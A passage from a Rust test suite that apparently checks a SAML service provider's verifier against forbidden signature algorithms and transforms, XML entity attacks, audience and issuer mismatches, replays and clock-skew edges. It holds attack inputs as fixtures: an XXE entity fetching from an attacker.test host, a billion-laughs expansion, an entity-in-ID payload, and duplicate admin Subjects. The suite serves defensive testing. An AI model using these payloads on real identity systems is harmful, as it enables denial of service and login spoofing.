        "an XSLT transform that would fetch an attacker URL",
        assn,
        with_transforms(&format!("{}{xslt}", transforms(&[ENV, EXC]))),
        Reason::AlgorithmForbidden,
    ));
    let xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">\
                 <ds:XPath xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\">not(ancestor-or-self::saml:Subject)</ds:XPath></ds:Transform>";
    out.push(refused(
        "ALG2",
        "",
        "an XPath transform that leaves the Subject out of the signed bytes",
        assn,
        with_transforms(&format!(
            "{}{xpath}{}",
            transforms(&[ENV]),
            transforms(&[EXC])
        )),
        Reason::AlgorithmForbidden,
    ));
    out.push(refused(
        "ALG3",
        "exc-only",
        "transforms are only [exc-c14n]",
        assn,
        with_transforms(&transforms(&[EXC])),
        Reason::TransformsInvalid,
    ));
    out.push(refused(
        "ALG3",
        "swapped",
        "transforms are [exc-c14n, enveloped-signature]",
        assn,
        with_transforms(&transforms(&[EXC, ENV])),
        Reason::TransformsInvalid,
    ));
    out.push(refused(
        "ALG3",
        "enveloped-twice",
        "transforms are [enveloped, enveloped, exc-c14n]",
        assn,
        with_transforms(&transforms(&[ENV, ENV, EXC])),
        Reason::TransformsInvalid,
    ));
    out.push(refused(
        "ALG3",
        "with-comments",
        "transforms are [enveloped, exc-c14n#WithComments]",
        assn,
        with_transforms(&transforms(&[
            ENV,
            "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        ])),
        Reason::AlgorithmForbidden,
    ));
    // No Transforms element at all: XML-DSig allows it, the SAML profile
    // does not; our verifier sees DigestMethod where Transforms must be.
    out.push(refused(
        "ALG3",
        "none",
        "no ds:Transforms element",
        assn,
        resign(&remove(x, &tp), A_SIG, &pkey),
        Reason::SignatureShapeInvalid,
    ));
    let legacy = fresh_for(
        Vendor::Generic,
        &ProfileOptions {
            sign: Some(SignWhat::Both),
            legacy_sha1: true,
            ..ProfileOptions::default()
        },
        &String::from_utf8(users_yaml()).unwrap(),
        USER,
    );
    out.push(refused(
        "ALG4",
        "",
        "the IdP signs with rsa-sha1/sha1 (legacy switch off)",
        &legacy,
        legacy.xml.clone(),
        Reason::Sha1Forbidden,
    ));
    out.push(
        accepted(
            "ALG4",
            "legacy-on",
            "the same SHA-1 response with the SP's legacy_sha1 switch on",
            &legacy,
            legacy.xml.clone(),
        )
        .with_cfg(|c| c.legacy_sha1 = true),
    );
    let sm = path(A_SIG, &["SignedInfo", "SignatureMethod"]);
    let dm = path(A_SIG, &["SignedInfo", "Reference", "DigestMethod"]);
    for (variant, at, alg, reason) in [
        (
            "rsa-md5",
            &sm,
            "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
            Reason::AlgorithmForbidden,
        ),
        (
            "md5-digest",
            &dm,
            "http://www.w3.org/2001/04/xmldsig-more#md5",
            Reason::AlgorithmForbidden,
        ),
        (
            "dsa-sha1",
            &sm,
            "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
            Reason::AlgorithmForbidden,
        ),
        (
            "ecdsa",
            &sm,
            "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
            Reason::AlgorithmForbidden,
        ),
        (
            "trailing-space",
            &sm,
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256 ",
            Reason::AlgorithmForbidden,
        ),
        (
            "upper-case",
            &sm,
            "http://www.w3.org/2001/04/XMLDSIG-MORE#RSA-SHA256",
            Reason::AlgorithmForbidden,
        ),
    ] {
        out.push(refused(
            "ALG5",
            variant,
            &format!("Algorithm {alg:?}, signed by the IdP"),
            assn,
            resign(&set_attr(x, at, "Algorithm", alg), A_SIG, &pkey),
            reason,
        ));
    }
    out.push(refused(
        "ALG6",
        "",
        "rsa-sha256 SignatureMethod with a sha512 DigestMethod",
        assn,
        resign(
            &set_attr(
                x,
                &dm,
                "Algorithm",
                "http://www.w3.org/2001/04/xmlenc#sha512",
            ),
            A_SIG,
            &pkey,
        ),
        Reason::AlgorithmMismatch,
    ));
}

/// §1.H / I7: DOCTYPE, entities, XXE.
fn xml_profile(out: &mut Vec<Case>, both: &Fresh) {
    let x = &both.xml;
    let prolog = |p: &str| format!("{p}{x}");
    for (attack, variant, what, doc, reason) in [
        (
            "X1",
            "doctype",
            "a bare DOCTYPE before the Response",
            prolog("<!DOCTYPE samlp:Response>"),
            Reason::DoctypeForbidden,
        ),
        (
            "X1",
            "",
            "XXE: an external parameter entity to an attacker URL",
            prolog("<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://attacker.test/x\"> %xxe;]>"),
            Reason::DoctypeForbidden,
        ),
        (
            "X2",
            "",
            "billion laughs (lol1..lol9)",
            prolog(&billion_laughs()),
            Reason::DoctypeForbidden,
        ),
        (
            "PD3",
            "",
            "entity in the Response ID, declared in a DOCTYPE (CVE-2025-23369 class)",
            format!(
                "<!DOCTYPE samlp:Response [<!ENTITY idViaEntity \"{}\">]>{}",
                both.assertion_id,
                x.replacen(
                    &format!("ID=\"{}\"", both.response_id),
                    "ID=\"&idViaEntity;\"",
                    1
                )
            ),
            Reason::DoctypeForbidden,
        ),
        (
            "PD3",
            "undeclared",
            "entity reference in the Response ID without any DOCTYPE",
            x.replacen(
                &format!("ID=\"{}\"", both.response_id),
                "ID=\"&idViaEntity;\"",
                1,
            ),
            Reason::UndefinedEntity,
        ),
    ] {
        out.push(refused(attack, variant, what, both, doc, reason));
    }
}

fn billion_laughs() -> String {
    let mut d = String::from("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        d.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&lol{};", i - 1).repeat(10)
        ));
    }
    d.push_str("]>");
    d
}

/// §1.G SAML semantics: each edit re-signed by the IdP (both elements),
/// so the only thing wrong is the one value.
fn semantics(out: &mut Vec<Case>, both: &Fresh) {
    let x = &both.xml;
    let resigned = |y: String| both.signed(&y, SignWhat::Both);
    let scd = [
        "Assertion",
        "Subject",
        "SubjectConfirmation",
        "SubjectConfirmationData",
    ];
    let cond = ["Assertion", "Conditions"];
    out.push(refused(
        "AU1",
        "",
        "Audience names another SP",
        both,
        resigned(set_inner(
            x,
            &["Assertion", "Conditions", "AudienceRestriction", "Audience"],
            "https://other-sp.test/saml/metadata",
        )),
        Reason::AudienceMismatch,
    ));
    out.push(refused(
        "AU2",
        "",
        "no AudienceRestriction",
        both,
        resigned(remove(
            x,
            &["Assertion", "Conditions", "AudienceRestriction"],
        )),
        Reason::AudienceMissing,
    ));
    out.push(refused(
        "RC1",
        "",
        "SubjectConfirmationData Recipient is another ACS",
        both,
        resigned(set_attr(x, &scd, "Recipient", "https://evil.test/acs")),
        Reason::RecipientMismatch,
    ));
    out.push(refused(
        "RC1",
        "trailing-slash",
        "Recipient differs from the ACS URL only by a trailing slash",
        both,
        resigned(set_attr(x, &scd, "Recipient", &format!("{ACS}/"))),
        Reason::RecipientMismatch,
    ));
    out.push(refused(
        "DE1",
        "",
        "signed Response Destination is another ACS",
        both,
        resigned(set_attr(x, &[], "Destination", "https://evil.test/acs")),
        Reason::DestinationMismatch,
    ));
    out.push(refused(
        "IS1",
        "",
        "Assertion Issuer is another IdP",
        both,
        resigned(set_inner(
            x,
            &["Assertion", "Issuer"],
            "https://evil-idp.test/metadata",
        )),
        Reason::IssuerMismatch,
    ));
    out.push(refused(
        "IS2",
        "",
        "Response Issuer is another IdP",
        both,
        resigned(set_inner(x, &["Issuer"], "https://evil-idp.test/metadata")),
        Reason::IssuerMismatch,
    ));
    out.push(refused(
        "ST1",
        "",
        "StatusCode Responder (signed)",
        both,
        resigned(set_attr(
            x,
            &["Status", "StatusCode"],
            "Value",
            "urn:oasis:names:tc:SAML:2.0:status:Responder",
        )),
        Reason::StatusNotSuccess,
    ));
    out.push(
        refused(
            "IR1",
            "",
            "the response answers another request than the browser's outstanding one",
            both,
            x.clone(),
            Reason::InResponseToMismatch,
        )
        .pending(Some("_another_outstanding_request")),
    );
    out.push(
        refused(
            "IR1",
            "none-outstanding",
            "the response answers a request but none is outstanding",
            both,
            x.clone(),
            Reason::UnexpectedInResponseTo,
        )
        .pending(None),
    );
    out.push(refused(
        "IR3",
        "",
        "Response InResponseTo differs from SubjectConfirmationData InResponseTo (both signed)",
        both,
        resigned(set_attr(x, &[], "InResponseTo", "_attacker_request_id")),
        Reason::InResponseToMismatch,
    ));
    let launched = launched(Vendor::Generic);
    out.push(refused(
        "IR4",
        "",
        "IdP-initiated (Idp::launch) response, IdP-initiated login off",
        &launched,
        launched.xml.clone(),
        Reason::UnsolicitedResponse,
    ));
    out.push(
        accepted(
            "IR4",
            "enabled",
            "IdP-initiated response with IdP-initiated login on",
            &launched,
            launched.xml.clone(),
        )
        .with_cfg(|c| c.allow_idp_initiated = true),
    );
    out.push(
        refused(
            "RP1",
            "",
            "the same response posted twice",
            both,
            x.clone(),
            Reason::ReplayedAssertion,
        )
        .before(x),
    );
    let new_assertion = resigned(x.replacen(
        &format!("ID=\"{}\"", both.assertion_id),
        "ID=\"_a_fresh_assertion_id_for_rp2\"",
        1,
    ));
    out.push(
        refused(
            "RP2",
            "",
            "the same Response ID again, with a different (IdP-signed) assertion",
            both,
            new_assertion,
            Reason::ReplayedAssertion,
        )
        .before(x),
    );

    // MA4 and friends: schema cardinalities, even when the IdP signed
    // them. Before these cases our SP read "the first" Subject, NameID or
    // Issuer and accepted all four (fixed in src/saml/validate.rs,
    // `at_most_one`): a second, ignored Subject for admin is exactly the
    // ambiguity a parser differential feeds on (I1). No dedicated reason
    // exists; `name-id-missing` ("no single NameID") and `issuer-mismatch`
    // ("no single Issuer naming the IdP") are the ones given.
    out.push(refused(
        "MA4",
        "",
        "no AuthnStatement (IdP-signed)",
        both,
        resigned(remove(x, &["Assertion", "AuthnStatement"])),
        Reason::AuthnStatementMissing,
    ));
    let subject = get(x, &["Assertion", "Subject"]);
    out.push(refused(
        "MA4",
        "two-subjects",
        "two Subjects, the second for admin (IdP-signed)",
        both,
        resigned(insert_after(
            x,
            &["Assertion", "Subject"],
            &subject.replace(USER, EVIL),
        )),
        Reason::NameIdMissing,
    ));
    let name_id = get(x, NAME_ID);
    out.push(refused(
        "MA4",
        "two-name-ids",
        "two NameIDs in the Subject, the second admin (IdP-signed)",
        both,
        resigned(insert_after(x, NAME_ID, &name_id.replace(USER, EVIL))),
        Reason::NameIdMissing,
    ));
    let evil_issuer = "<saml:Issuer>https://evil-idp.test/metadata</saml:Issuer>";
    out.push(refused(
        "IS1",
        "twice",
        "a second Issuer (another IdP) in the Assertion (IdP-signed)",
        both,
        resigned(insert_after(x, &["Assertion", "Issuer"], evil_issuer)),
        Reason::IssuerMismatch,
    ));
    let envelope = generic_signing(SignWhat::Assertion);
    out.push(refused(
        "IS2",
        "twice-unsigned",
        "assertion-only signature; a second Issuer (another IdP) added to the unsigned envelope",
        &envelope,
        insert_after(&envelope.xml, &["Issuer"], evil_issuer),
        Reason::IssuerMismatch,
    ));

    // TM4: skew boundaries, one second each side (skew S = 180 s).
    let skew = time::Duration::try_from(both.sp().allowed_skew).unwrap();
    let sec = time::Duration::seconds(1);
    let instant = |y: &str, p: &[&str], a: &str| {
        OffsetDateTime::parse(
            &attr(y, p, a),
            &time::format_description::well_known::Rfc3339,
        )
        .unwrap()
    };
    let nb = instant(x, &cond, "NotBefore");
    let scd_noa = instant(x, &scd, "NotOnOrAfter");
    out.push(
        accepted(
            "TM4",
            "not-before-edge",
            "now = NotBefore − S",
            both,
            x.clone(),
        )
        .at(nb - skew),
    );
    out.push(
        refused(
            "TM4",
            "not-before",
            "now = NotBefore − S − 1 s",
            both,
            x.clone(),
            Reason::AssertionNotYetValid,
        )
        .at(nb - skew - sec),
    );
    out.push(
        accepted(
            "TM4",
            "bearer-edge",
            "now = SubjectConfirmationData NotOnOrAfter + S − 1 s",
            both,
            x.clone(),
        )
        .at(scd_noa + skew - sec),
    );
    out.push(
        refused(
            "TM4",
            "bearer",
            "now = SubjectConfirmationData NotOnOrAfter + S (exclusive)",
            both,
            x.clone(),
            Reason::SubjectConfirmationExpired,
        )
        .at(scd_noa + skew),
    );
    // The Conditions window alone: the IdP signs a bearer confirmation
    // that outlives Conditions by an hour.
    let long_bearer = resigned(set_attr(
        x,
        &scd,
        "NotOnOrAfter",
        &ssosim::saml::instant::format_instant(scd_noa + Duration::from_secs(3600)),
    ));
    let cond_noa = instant(x, &cond, "NotOnOrAfter");
    out.push(
        accepted(
            "TM4",
            "conditions-edge",
            "now = Conditions NotOnOrAfter + S − 1 s",
            both,
            long_bearer.clone(),
        )
        .at(cond_noa + skew - sec),
    );
    out.push(
        refused(
            "TM4",
            "conditions",
            "now = Conditions NotOnOrAfter + S (exclusive)",
            both,
            long_bearer,
            Reason::AssertionExpired,
        )
        .at(cond_noa + skew),
    );
}
